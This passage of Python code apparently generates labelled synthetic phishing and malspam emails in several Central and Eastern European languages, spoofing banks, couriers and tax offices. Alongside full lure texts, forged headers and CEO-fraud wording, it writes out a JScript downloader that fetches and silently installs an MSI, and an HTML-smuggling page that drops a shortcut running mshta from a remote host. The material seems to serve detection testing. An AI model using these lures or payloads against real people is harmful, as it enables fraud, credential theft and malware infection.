        "és a visszakapcsolás díja 4 990 Ft.",
        "A számlát bankkártyával egyszerűen kifizetheti online:",
    ]
    html = kit_html("Telekom", "#e20074", "Telekom", paras, ("Számla befizetése", link),
                    "Magyar Telekom Nyrt., 1097 Budapest, Könyves Kálmán krt. 36.", charset=cs)
    plain = strip_html(html)
    top = [f"From: {addr('Telekom Ügyfélszolgálat', a.mailfrom, cs, 'Q')}", f"To: {rcpt}",
           f"Subject: {ew('Elmaradt díjfizetés - szolgáltatása korlátozásra kerül', cs, 'Q')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain, charset=cs), qp(html, "html", cs))
    add(stem, "phishing", "Magyar Telekom 'overdue bill, service will be restricted' lure from a look-alike domain, "
        "with a rb.gy shortener link to a card-payment page.", head("freemail", a, rcpt, sent, stem, [], top), body)


def hu_iso() -> None:
    stem = "b48-phish-hu-szamla-iso"
    sent = T("2025-02-18 09:06:40 +0100")
    rcpt = "szamlazas@bau-tech.hu"
    dom = "szamlazz-hu.net"
    a = Auth(ip=vps(stem, "103.151"), helo=f"mail.{dom}", rdns=None, mailfrom=f"noreply@{dom}", hfrom=dom,
             spf="pass", dkim=(), dmarc="none")
    iso = F.iso_image([("szamla_E-BTK-2025-1873.exe", F.pe_stub())], "SZAMLA")
    html = esp_html("hu", "Számla", "Számlázz.hu", "#f27b21", [
        "Tisztelt Partnerünk!",
        "A <b>Bau-Trade Kft.</b> elektronikus számlát állított ki az Ön részére.",
        "Számlaszám: <b>E-BTK-2025-1873</b><br>Fizetési határidő: 2025.02.25.<br>Összeg: <b>1 284 700 Ft</b>",
        "A számlát a csatolt fájlban találja. Megnyitásához kattintson duplán a mellékletre.",
    ], footer=["Ezt az üzenetet a Számlázz.hu rendszere küldte."])
    plain = strip_html(html)
    top = [f"From: {addr('Számlázz.hu', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Új számla érkezett: E-BTK-2025-1873')}", *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = Multi("mixed", phpmailer_boundary(stem), [alt(phpmailer_boundary(stem + "alt"), qp(plain), qp(html, "html")),
                                                     attachment("application/octet-stream", "szamla_E-BTK-2025-1873.iso", iso)])
    add(stem, "malware", "Fake Számlázz.hu e-invoice notification from a look-alike domain with an ISO disc image "
        "holding an executable 'számla'.", head("m365", a, rcpt, sent, stem, [], top), body)


def ro_bcr() -> None:
    stem = "b48-phish-ro-bcr-george"
    sent = T("2025-07-08 09:33:20 +0300")
    rcpt = "andreea.popescu87@gmail.com"
    dom = "bcr-george-ro.com"
    a = Auth(ip=vps(stem, "77.91"), helo=f"mail.{dom}", rdns=f"mail.{dom}", mailfrom=f"notificari@{dom}", hfrom=dom,
             spf="pass", dkim=((dom, "dkim", "pass"),), dmarc="pass", policy="none")
    link = f"https://{dom}/autentificare?token={hx(stem + 't', 24)}"
    paras = [
        "Stimate client,",
        "Contul dumneavoastră <b>George</b> a fost suspendat temporar deoarece datele de identificare nu au fost "
        "actualizate conform cerințelor legale privind cunoașterea clientelei (KYC).",
        "Pentru a reactiva accesul la internet și mobile banking, vă rugăm să vă actualizați datele în cel mult "
        "24 de ore. După acest termen, cardurile asociate vor fi blocate.",
    ]
    html = kit_html("BCR George", "#2870ed", "BCR", paras, ("Actualizează datele", link),
                    "Banca Comercială Română S.A., Calea Victoriei nr. 15, București. Mesaj generat automat.")
    plain = strip_html(html)
    top = [f"From: {addr('BCR George', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Contul dumneavoastră George a fost suspendat temporar')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain), qp(html, "html"))
    add(stem, "phishing", "BCR George 'account suspended, update KYC data' lure in Romanian from a look-alike domain with "
        "aligned SPF/DKIM/DMARC.", head("gmail", a, rcpt, sent, stem, [dkim_sig(dom, "dkim", stem, sent=sent)], top), body)


def ro_bt_callback() -> None:
    stem = "b48-phish-ro-bt-callback"
    sent = T("2025-11-03 14:02:18 +0200")
    rcpt = "ionut.marinescu@outlook.com"
    user = "bancatransilvania.securitate@gmail.com"
    a = gmail_sender_auth(user, stem)
    plain = ("Stimate client,\n\nSistemul nostru antifraudă a blocat o tranzacție suspectă efectuată cu cardul dvs. "
             "Visa ****4417:\n\nComerciant: BINANCE.COM\nSuma: 3.450,00 RON\nData: 03.11.2025, 13:47\n\n"
             "Dacă NU recunoașteți această tranzacție, sunați IMEDIAT la Departamentul Antifraudă la numărul "
             "0373 812 457 (non-stop) pentru anularea ei și emiterea unui card nou.\n"
             "Dacă nu ne contactați în 2 ore, tranzacția va fi procesată automat.\n\nNu răspundeți la acest e-mail.\n\n"
             "Cu stimă,\nDepartamentul Securitate Carduri\nBanca Transilvania\n")
    html = gmail_html([line for line in plain.split("\n")][:-1])
    top = ["MIME-Version: 1.0", f"From: {addr('Banca Transilvania - Departament Securitate', user)}", f"Date: {rfc(sent)}",
           f"Message-ID: {msgid_gmail(stem)}", f"Subject: {ew('Alertă tranzacție suspectă – card Visa ****4417')}", f"To: {rcpt}"]
    body = alt(gmail_boundary(stem), qp(plain), qp(html, "html"))
    hops = gmail_sender_hops(stem, sent)
    add(stem, "phishing", "Callback scam in Romanian: a Banca Transilvania 'suspicious card transaction' alert from a "
        "Gmail account, asking the victim to phone a fake anti-fraud number, no link.",
        head("outlook", a, rcpt, sent, stem, hops, top), body)


def ro_fancourier() -> None:
    stem = "b48-phish-ro-fancourier-taxa"
    sent = T("2025-05-27 11:18:26 +0300")
    rcpt = "mihai@mihaidumitrescu.ro"
    dom = "fancourier-ro.info"
    a = Auth(ip=vps(stem, "185.208"), helo=f"mail.{dom}", rdns=None, mailfrom=f"livrari@{dom}", hfrom=dom, spf="pass",
             dkim=((dom, "default", "pass"),), dmarc="none")
    link = "https://cutt.ly/" + an(stem + "c", 9)
    paras = [
        "Bună ziua,",
        "Coletul dumneavoastră cu AWB <b>2410839571642</b> nu a putut fi livrat deoarece adresa de livrare este "
        "incompletă și taxa de procesare nu a fost achitată.",
        "Pentru reprogramarea livrării, confirmați adresa și achitați taxa de <b>4,99 RON</b>. Coletele nerevendicate "
        "în 48 de ore sunt returnate expeditorului.",
    ]
    html = kit_html("FAN Courier", "#004a99", "FAN Courier", paras, ("Reprogramează livrarea", link),
                    "FAN Courier Express SRL, Str. Nicolae Canea 140-160, București")
    plain = strip_html(html)
    top = [f"From: {addr('FAN Courier', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Coletul dvs. nu a putut fi livrat – taxă de 4,99 RON')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain), qp(html, "html"))
    add(stem, "phishing", "FAN Courier 'failed delivery, pay 4.99 RON' fee lure from a look-alike domain, with a cutt.ly "
        "shortener link.", head("postfix:mail.mihaidumitrescu.ro:2", a, rcpt, sent, stem,
                                [dkim_sig(dom, "default", stem, sent=sent)], top), body)


def ro_anaf() -> None:
    stem = "b48-phish-ro-anaf-spv"
    sent = T("2025-03-26 10:44:51 +0200")
    rcpt = "contabilitate@dentalmed-cluj.ro"
    dom = "anaf-spv.info"
    a = Auth(ip=vps(stem, "194.87"), helo=f"mail.{dom}", rdns=f"mail.{dom}", mailfrom=f"notificari@{dom}", hfrom=dom,
             spf="pass", dkim=((dom, "mail", "pass"),), dmarc="pass", policy="quarantine")
    link = f"https://www.pensiunea-valea-ursului.ro/wp-includes/spv/?cif=RO{num(stem + 'cif', 10000000, 49999999)}"
    html = esp_html("ro", "ANAF SPV", "ANAF – Spațiul Privat Virtual", "#003f7f", [
        "Stimate contribuabil,",
        "Vă informăm că în Spațiul Privat Virtual a fost emisă <b>Decizia de impunere nr. 4582019</b> privind "
        "obligațiile fiscale suplimentare stabilite în urma verificării documentare.",
        "Termenul de contestare este de 45 de zile de la comunicare. Pentru vizualizarea documentului, autentificați-vă "
        "în SPV:",
    ], ("Vizualizare document", link), footer=["Agenția Națională de Administrare Fiscală",
                                               "Acest mesaj a fost generat automat. Vă rugăm să nu răspundeți."])
    plain = strip_html(html)
    top = [f"From: {addr('ANAF - Spațiul Privat Virtual', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Notificare SPV: Decizie de impunere nr. 4582019 emisă')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain), qp(html, "html"))
    add(stem, "phishing", "ANAF Spațiul Privat Virtual 'tax assessment issued' notice from a look-alike domain, linking "
        "to a credential kit on a compromised guesthouse WordPress site.",
        head("m365", a, rcpt, sent, stem, [dkim_sig(dom, "mail", stem, sent=sent)], top), body)


def ro_factura_js() -> None:
    stem = "b48-phish-ro-factura-zip-js"
    sent = T("2025-09-17 08:05:33 +0300")
    rcpt = "office@constructii-arges.ro"
    dom = "distributie-materiale.ro"
    ip = f"{num(stem, 150, 200)}.{num(stem + 'b', 1, 250)}.{num(stem + 'c', 1, 250)}.{num(stem + 'd', 2, 250)}"
    a = Auth(ip=ip, helo="User", rdns=None, mailfrom=f"facturi@{dom}", hfrom=dom, spf="softfail", dkim=(),
             dmarc="fail", policy="none")
    js = ('var sh = new ActiveXObject("WScript.Shell");\n'
          'var p = sh.ExpandEnvironmentStrings("%TEMP%") + "\\\\fdmr.msi";\n'
          'var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "https://dmr-facturi.top/d/20250917.bin", false); x.send();\n'
          'var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(x.responseBody); s.SaveToFile(p, 2);\n'
          'sh.Run("msiexec /q /i \\"" + p + "\\"", 0, false);\n')
    z = F.zip_archive([("Factura_DMR_20250917.pdf.js", js.encode())])
    plain = ("Buna ziua,\n\nVa transmitem atasat factura fiscala seria DMR nr. 20250917, scadenta depasita cu 14 zile.\n"
             "Va rugam sa efectuati plata in cel mai scurt timp pentru a evita penalitatile.\n\n"
             "Cu stima,\nDepartament Contabilitate\nDistributie Materiale SRL\n")
    top = [f"From: {addr('Contabilitate Distributie Materiale', a.mailfrom)}", f"To: {rcpt}",
           "Subject: Factura fiscala seria DMR nr. 20250917 - scadenta depasita", f"Date: {rfc(sent)}",
           f"Message-ID: <{hx(stem + 'm', 20)}@User>", "MIME-Version: 1.0", "X-Mailer: Microsoft Outlook Express 6.00.2900.5512"]
    body = Multi("mixed", f"----=_NextPart_000_0006_{HX(stem + 'p', 8)}.{HX(stem + 'p2', 8)}",
                 [Leaf("text/plain", plain.encode(), "7bit", '; charset="windows-1250"'),
                  attachment("application/x-zip-compressed", "Factura_DMR_20250917.zip", z)])
    add(stem, "malware", "Romanian overdue 'factura fiscala' malspam from a bot (HELO 'User', SPF softfail, DMARC fail) "
        "with a zip holding a JScript downloader disguised as a PDF.", head("m365", a, rcpt, sent, stem, [], top), body)


def bg_dsk() -> None:
    stem = "b48-phish-bg-dsk-smart"
    sent = T("2025-06-12 09:15:47 +0300")
    rcpt = "ivanova.maria@abv.bg"
    dom = "dskbank-bg.info"
    cs = "windows-1251"
    a = Auth(ip=vps(stem, "185.39"), helo=f"mail.{dom}", rdns=None, mailfrom=f"dsk-smart@{dom}", hfrom=dom,
             spf="pass", dkim=(), dmarc="none")
    link = f"https://{dom}/smart/vhod?id={lo(stem + 'i', 16)}"
    paras = [
        "Уважаеми клиенти,",
        "Във връзка с актуализация на системата за сигурност на <b>DSK Smart</b> достъпът до Вашия профил е "
        "временно ограничен.",
        "За да възстановите пълния достъп до сметките и картите си, моля, потвърдете данните си в рамките на "
        "24 часа. В противен случай профилът Ви ще бъде блокиран.",
    ]
    html = kit_html("DSK Smart", "#006a4d", "Банка ДСК", paras, ("Потвърдете данните", link),
                    "Банка ДСК АД, ул. Московска 19, 1036 София", charset=cs)
    plain = strip_html(html)
    top = [f"From: {addr('Банка ДСК', a.mailfrom, cs, 'B')}", f"To: {rcpt}",
           f"Subject: {ew('Вашият достъп до DSK Smart е ограничен', cs, 'B')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), b64t(plain, charset=cs), b64t(html, "html", cs))
    add(stem, "phishing", "Bank DSK 'DSK Smart access restricted' lure in windows-1251 Bulgarian from a look-alike domain, "
        "linking to a login kit.", head("abv", a, rcpt, sent, stem, [], top), body)


def bg_econt() -> None:
    stem = "b48-phish-bg-econt-pratka"
    sent = T("2025-10-14 16:40:12 +0300")
    rcpt = "georgi.petrov.sofia@gmail.com"
    dom = "econt-dostavka.com"
    a = Auth(ip=vps(stem, "94.131"), helo=f"mail.{dom}", rdns=f"static.{num(stem, 10, 250)}.{num(stem + 'x', 10, 250)}.clients.your-server.de",
             mailfrom=f"info@{dom}", hfrom=dom, spf="pass", dkim=((dom, "default", "pass"),), dmarc="none")
    link = f"https://{dom}/pratka/{num(stem + 'p', 1000000000, 9999999999)}"
    html = esp_html("bg", "Еконт", "Еконт Експрес", "#234ca5", [
        "Здравейте,",
        "Вашата пратка с номер <b>1051938472615</b> е задържана в логистичния център в София поради непълен адрес "
        "за доставка.",
        "За да бъде доставена, потвърдете адреса си и заплатете такса за преадресиране от <b>1,99 лв.</b> "
        "Неполучените пратки се връщат на подателя след 3 работни дни.",
    ], ("Проследи и плати", link), footer=["Еконт Експрес ООД, бул. Приморски 57, 9000 Варна"])
    plain = strip_html(html)
    top = [f"From: {addr('Еконт Експрес', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Пратката Ви е задържана – необходимо е потвърждение на адреса')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain), qp(html, "html"))
    add(stem, "phishing", "Econt 'parcel held, pay 1.99 лв. readdressing fee' lure in Bulgarian from a look-alike domain "
        "on a rented server.", head("gmail", a, rcpt, sent, stem, [dkim_sig(dom, "default", stem, sent=sent)], top), body)


def bg_speedy_smuggling() -> None:
    stem = "b48-phish-bg-speedy-html-smuggling"
    sent = T("2025-08-05 10:27:03 +0300")
    rcpt = "office@bgtrade-eood.bg"
    dom = "speedy-bg.net"
    a = Auth(ip=vps(stem, "147.45"), helo=f"mail.{dom}", rdns=None, mailfrom=f"noreply@{dom}", hfrom=dom,
             spf="pass", dkim=(), dmarc="none")
    lnk = F.lnk_shortcut(r"C:\Windows\System32\cmd.exe",
                         r"/c mshta https://speedy-docs.top/t/60198374525.hta")
    inner = F.zip_archive([("Tovaritelnica_60198374525.pdf.lnk", lnk)])
    blob = base64.b64encode(inner).decode()
    chunks = [blob[i:i + 76] for i in range(0, len(blob), 76)]
    js_blob = '"+\n"'.join(chunks)
    page = ('<!DOCTYPE html><html lang="bg"><head><meta charset="utf-8"><title>Speedy - Товарителница</title></head>\n'
            '<body style="font-family:Arial;text-align:center;padding-top:60px">\n'
            '<img alt="Speedy" width="160"><h3>Документът се изтегля...</h3>\n'
            '<p>Ако изтеглянето не започне автоматично, натиснете <a id="d" href="#">тук</a>.</p>\n'
            '<script>\nvar b="' + js_blob + '";\n'
            'function g(){var s=atob(b),u=new Uint8Array(s.length);for(var i=0;i<s.length;i++)u[i]=s.charCodeAt(i);\n'
            'var f=new Blob([u],{type:"application/zip"}),a=document.createElement("a");a.href=URL.createObjectURL(f);\n'
            'a.download="Tovaritelnica_60198374525.zip";document.body.appendChild(a);a.click();}\n'
            'document.getElementById("d").onclick=function(e){e.preventDefault();g();};setTimeout(g,800);\n'
            '</script></body></html>\n')
    plain = ("Уважаеми клиенти,\n\nЗа пратка с товарителница № 60198374525 са необходими документи за митническо "
             "освобождаване.\nМоля, отворете прикачения файл, попълнете декларацията и я изпратете в отговор на "
             "този имейл до 2 работни дни.\n\nСпийди АД\nОтдел Митническо обслужване\n")
    top = [f"From: {addr('Speedy', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Товарителница 60198374525 – документи за митническо освобождаване')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = Multi("mixed", phpmailer_boundary(stem), [qp(plain), html_att("Tovaritelnica_60198374525.html", page)])
    add(stem, "malware", "Speedy customs-documents lure in Bulgarian with an HTML attachment that smuggles an embedded zip "
        "(a .pdf.lnk running mshta) and downloads it automatically.", head("m365", a, rcpt, sent, stem, [], top), body)


# ================================================================ attacks: Western Balkans, Slovenia, Baltics


def rs_raiffeisen() -> None:
    stem = "b48-phish-rs-raiffeisen-latin"
    sent = T("2025-02-05 13:50:09 +0100")
    rcpt = "milica.jovanovic@gmail.com"
    dom = "raiffeisen-rs-online.com"
    a = Auth(ip=vps(stem, "185.173"), helo=f"mail.{dom}", rdns=None, mailfrom=f"obavestenje@{dom}", hfrom=dom,
             spf="pass", dkim=((dom, "default", "pass"),), dmarc="none")
    link = f"https://{dom}/rol/prijava?k={hx(stem + 'k', 18)}"
    paras = [
        "Poštovani klijente,",
        "obaveštavamo Vas da je Vaš nalog u aplikaciji <b>RaiffeisenOnline</b> privremeno blokiran zbog neuspele "
        "provere identiteta u skladu sa Zakonom o sprečavanju pranja novca.",
        "Da biste ponovo aktivirali nalog, potrebno je da potvrdite svoje podatke u roku od 24 sata. U suprotnom, "
        "sve platne kartice povezane sa računom biće trajno blokirane.",
    ]
    html = kit_html("RaiffeisenOnline", "#fee600", "Raiffeisen banka", paras, ("Potvrdi podatke", link),
                    "Raiffeisen banka a.d. Beograd, Đorđa Stanojevića 16, 11070 Novi Beograd").replace(
        "color:#fff;padding:16px 22px", "color:#000;padding:16px 22px").replace("color:#fff;padding:12px 30px", "color:#000;padding:12px 30px")
    plain = strip_html(html)
    top = [f"From: {addr('Raiffeisen banka', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Važno obaveštenje: potrebna verifikacija naloga RaiffeisenOnline')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain), qp(html, "html"))
    add(stem, "phishing", "Raiffeisen banka Serbia 'RaiffeisenOnline account blocked' lure in Serbian Latin from a look-alike "
        "domain.", head("gmail", a, rcpt, sent, stem, [dkim_sig(dom, "default", stem, sent=sent)], top), body)


def rs_eporezi() -> None:
    stem = "b48-phish-rs-eporezi-cyr"
    sent = T("2025-04-22 12:03:45 +0200")
    rcpt = "dragan.nikolic@outlook.com"
    dom = "purs-gov.info"
    cs = "windows-1251"
    a = Auth(ip=vps(stem, "46.17"), helo=f"mail.{dom}", rdns=None, mailfrom=f"eporezi@{dom}", hfrom=dom,
             spf="pass", dkim=(), dmarc="none")
    link = f"https://{dom}/eporezi/povrat?jmbg=&ref={num(stem + 'r', 100000, 999999)}"
    paras = [
        "Поштовани порески обвезниче,",
        "Пореска управа Републике Србије обавештава Вас да Вам је по основу годишњег пореза на доходак грађана "
        "утврђен повраћај више плаћеног пореза у износу од <b>18.640,00 РСД</b>.",
        "Да би средства била уплаћена на Ваш текући рачун, потребно је да се пријавите на портал <b>еПорези</b> "
        "и потврдите податке о платној картици у року од 5 дана.",
    ]
    html = kit_html("еПорези", "#0c4076", "Пореска управа Републике Србије", paras, ("Пријава на еПорези", link),
                    "Пореска управа, Саве Машковића 3-5, 11000 Београд", charset=cs)
    plain = strip_html(html)
    top = [f"From: {addr('Пореска управа – еПорези', a.mailfrom, cs, 'B')}", f"To: {rcpt}",
           f"Subject: {ew('Обавештење о повраћају више плаћеног пореза', cs, 'B')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain, charset=cs), qp(html, "html", cs))
    add(stem, "phishing", "Serbian Tax Administration ePorezi refund lure in Serbian Cyrillic (windows-1251) from a "
        "look-alike domain, asking for card details to receive 18.640 RSD.", head("outlook", a, rcpt, sent, stem, [], top), body)


def hr_erste() -> None:
    stem = "b48-phish-hr-erste-netbanking"
    sent = T("2025-09-24 08:17:06 +0200")
    rcpt = "ivana.babic.zg@gmail.com"
    dom = "erste-netbanking-hr.com"
    a = Auth(ip=vps(stem, "62.233"), helo=f"mail.{dom}", rdns=f"mail.{dom}", mailfrom=f"info@{dom}", hfrom=dom,
             spf="pass", dkim=((dom, "s1", "pass"),), dmarc="pass", policy="none")
    link = f"https://{dom}/george/prijava?session={lo(stem + 's', 22)}"
    paras = [
        "Poštovani,",
        "radi usklađivanja s novim propisima Europske unije o sigurnosti platnih usluga (PSD2) potrebno je "
        "ponovno potvrditi Vaše podatke za korištenje usluga <b>George</b> i <b>Erste mBanking</b>.",
        "Molimo Vas da potvrdu izvršite do <b>26.09.2025.</b> Nakon isteka roka pristup internetskom i mobilnom "
        "bankarstvu bit će privremeno onemogućen.",
    ]
    html = kit_html("Erste Bank", "#2870ed", "Erste&Steiermärkische Bank", paras, ("Potvrdite podatke", link),
                    "Erste&Steiermärkische Bank d.d., Jadranski trg 3a, 51000 Rijeka")
    plain = strip_html(html)
    top = [f"From: {addr('Erste Bank Hrvatska', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Potrebna potvrda podataka za George i Erste mBanking')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain), qp(html, "html"))
    add(stem, "phishing", "Erste Bank Croatia 'PSD2 data confirmation' lure for George / mBanking from a look-alike domain "
        "with aligned authentication.", head("gmail", a, rcpt, sent, stem, [dkim_sig(dom, "s1", stem, sent=sent)], top), body)


def hr_ceo() -> None:
    stem = "b48-phish-hr-ceo-uplata"
    sent = T("2025-11-18 10:12:33 +0100")
    rcpt = "racunovodstvo@adria-logistika.hr"
    user = "marko.peric.direktor@outlook.com"
    a = Auth(ip=f"40.92.{num(stem, 1, 120)}.{num(stem + 'b', 1, 250)}", helo="EUR05-VI1-obe.outbound.protection.outlook.com",
             rdns=f"mail-vi1eur05olkn20{num(stem + 'o', 10, 99)}.outbound.protection.outlook.com", mailfrom=user,
             hfrom="outlook.com", spf="pass", dkim=(("outlook.com", "selector1", "pass"),), dmarc="pass", policy="none")
    plain = ("Bok Ana,\n\njesi li u uredu? Trebam da danas izvršiš jednu hitnu uplatu dobavljaču u inozemstvu, "
             "radi se o akontaciji za novi ugovor koji još nije javan pa te molim da to ostane među nama.\n"
             "Javi mi koliko je trenutno raspoloživo na poslovnom računu u Zagrebačkoj banci, pa ti šaljem podatke "
             "za uplatu.\n\nNa sastanku sam cijelo jutro i ne mogu se javiti na telefon, piši mi ovdje.\n\n"
             "Marko Perić\nDirektor\n\nPoslano s mog iPhonea\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            + "".join(f"<div>{p if p else '<br>'}</div>" for p in plain.split("\n")[:-1]) + "</body></html>\n")
    top = [f"From: {addr('Marko Perić', user)}", f"To: {addr('Ana Horvat', rcpt)}", f"Subject: {ew('Hitna uplata')}",
           f"Date: {rfc(sent)}", f"Message-ID: {msgid_outlook(stem)}", "MIME-Version: 1.0", "X-MS-Has-Attach:",
           "X-MS-TNEF-Correlator:", "Content-Language: hr-HR"]
    body = alt(outlook_boundary(stem), qp(plain), qp(html, "html"))
    hops = [dkim_sig("outlook.com", "selector1", stem, sent=sent)]
    add(stem, "phishing", "CEO fraud in Croatian from a free Outlook.com account bearing the director's name, asking the "
        "accountant for the account balance and a confidential urgent foreign payment, no link.",
        head("m365", a, rcpt, sent, stem, hops, top), body)


def si_dpd() -> None:
    stem = "b48-phish-si-dpd-carina"
    sent = T("2025-06-25 15:33:19 +0200")
    rcpt = "nina.kranjc@siol.net"
    dom = "dpd-si-dostava.com"
    a = Auth(ip=vps(stem, "185.244"), helo=f"mail.{dom}", rdns=None, mailfrom=f"obvestila@{dom}", hfrom=dom,
             spf="pass", dkim=((dom, "mail", "pass"),), dmarc="none")
    link = f"https://{dom}/sledenje/09981234567890?pay=1"
    html = esp_html("sl", "DPD", "DPD Slovenija", "#dc0032", [
        "Pozdravljeni,",
        "Vaša pošiljka <b>09981234567890</b> je prispela v distribucijski center Ljubljana, vendar je zadržana zaradi "
        "neplačane carinske dajatve.",
        "Znesek za plačilo: <b>2,95 EUR</b>. Po plačilu bo pošiljka dostavljena v 1–2 delovnih dneh. Neplačane "
        "pošiljke po 5 dneh vrnemo pošiljatelju.",
    ], ("Plačaj in prevzemi", link), footer=["DPD Slovenija d.o.o., Letališka cesta 33g, 1000 Ljubljana"])
    plain = strip_html(html)
    top = [f"From: {addr('DPD Slovenija', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Vaša pošiljka čaka na plačilo carinske dajatve (2,95 EUR)')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain), qp(html, "html"))
    add(stem, "phishing", "DPD Slovenia 'customs duty 2.95 EUR' parcel lure in Slovene from a look-alike domain.",
        head("postfix:mx.siol.net:1", a, rcpt, sent, stem, [dkim_sig(dom, "mail", stem, sent=sent)], top), body)


def lt_swedbank() -> None:
    stem = "b48-phish-lt-swedbank-smartid"
    sent = T("2025-01-15 09:22:18 +0200")
    rcpt = "tomas.kazlauskas@gmail.com"
    dom = "swedbank-lt.info"
    a = Auth(ip=vps(stem, "212.34"), helo=f"mail.{dom}", rdns=None, mailfrom=f"pranesimai@{dom}", hfrom=dom,
             spf="pass", dkim=(), dmarc="none")
    link = f"https://{dom}/lt/smart-id/atnaujinti?sid={lo(stem + 's', 18)}"
    paras = [
        "Gerbiamas kliente,",
        "Jūsų <b>Smart-ID</b> sertifikato galiojimas baigiasi <b>2025-01-17</b>. Pasibaigus galiojimui, negalėsite "
        "prisijungti prie interneto banko ir patvirtinti mokėjimų.",
        "Norėdami toliau naudotis Swedbank paslaugomis, atnaujinkite sertifikatą dabar. Tai užtruks vos kelias minutes.",
    ]
    html = kit_html("Swedbank", "#ff5f00", "Swedbank", paras, ("Atnaujinti Smart-ID", link),
                    "„Swedbank“, AB, Konstitucijos pr. 20A, LT-03502 Vilnius")
    plain = strip_html(html)
    top = [f"From: {addr('Swedbank', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Jūsų Smart-ID sertifikatas baigia galioti')}", *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain), qp(html, "html"))
    add(stem, "phishing", "Swedbank Lithuania 'Smart-ID certificate expiring' lure in Lithuanian from a look-alike domain, "
        "linking to a kit that relays the Smart-ID login.", head("gmail", a, rcpt, sent, stem, [], top), body)


def lv_vid() -> None:
    stem = "b48-phish-lv-vid-eds"
    sent = T("2025-05-06 10:10:41 +0300")
    rcpt = "janis.berzins@inbox.lv"
    dom = "vid-gov-lv.eds-atmaksa.com"
    cs = "iso-8859-13"
    a = Auth(ip=vps(stem, "185.117"), helo="eds-atmaksa.com", rdns=None, mailfrom=f"eds@{dom}", hfrom=dom,
             spf="pass", dkim=(), dmarc="none")
    link = f"https://{dom}/eds/pieslegties?p={lo(stem + 'p', 16)}"
    paras = [
        "Cienījamais nodokļu maksātāj!",
        "Izskatot Jūsu gada ienākumu deklarāciju par 2024. gadu, Valsts ieņēmumu dienests ir aprēķinājis nodokļu "
        "pārmaksu <b>214,60 EUR</b> apmērā.",
        "Lai saņemtu atmaksu, lūdzam pieslēgties Elektroniskās deklarēšanas sistēmai (EDS) un apstiprināt "
        "bankas konta datus 3 darba dienu laikā.",
    ]
    html = kit_html("VID EDS", "#9e3039", "Valsts ieņēmumu dienests", paras, ("Pieslēgties EDS", link),
                    "Valsts ieņēmumu dienests, Talejas iela 1, Rīga, LV-1978", charset=cs)
    plain = strip_html(html)
    top = [f"From: {addr('VID EDS', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Paziņojums par nodokļu pārmaksas atmaksu', cs, 'Q')}", *phpmailer_top(stem, dom, sent),
           "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain, charset=cs), qp(html, "html", cs))
    add(stem, "phishing", "Latvian VID EDS tax-overpayment refund lure (ISO-8859-13) from a subdomain built to read "
        "'vid-gov-lv', asking for bank login through a fake EDS page.", head("inboxlv", a, rcpt, sent, stem, [], top), body)


def ee_omniva() -> None:
    stem = "b48-phish-ee-omniva-pakk"
    sent = T("2025-12-02 12:40:06 +0200")
    rcpt = "kadri.tamm@gmail.com"
    dom = "omniva-pakiautomaat.com"
    a = Auth(ip=vps(stem, "176.113"), helo=f"mail.{dom}", rdns=None, mailfrom=f"teavitus@{dom}", hfrom=dom,
             spf="pass", dkim=((dom, "default", "pass"),), dmarc="none")
    link = "https://is.gd/" + an(stem + "g", 6)
    html = esp_html("et", "Omniva", "Omniva", "#ff6600", [
        "Tere!",
        "Teie pakk <b>CE485201937EE</b> ootab kohaletoimetamist. Pakki ei saanud pakiautomaati paigutada, sest "
        "saatja ei tasunud täielikku transporditasu.",
        "Paki kättesaamiseks tasuge puuduolev summa <b>1,50 €</b> 48 tunni jooksul. Vastasel juhul tagastatakse "
        "pakk saatjale.",
    ], ("Tasu ja vali pakiautomaat", link), footer=["AS Eesti Post (Omniva), Mustamäe tee 3, 15094 Tallinn"])
    plain = strip_html(html)
    top = [f"From: {addr('Omniva', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Teie pakk ootab: vajalik lisatasu 1,50 €')}", *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain), qp(html, "html"))
    add(stem, "phishing", "Omniva 'parcel waiting, pay 1.50 € missing fee' lure in Estonian from a look-alike domain, "
        "with an is.gd shortener link.", head("gmail", a, rcpt, sent, stem, [dkim_sig(dom, "default", stem, sent=sent)], top), body)


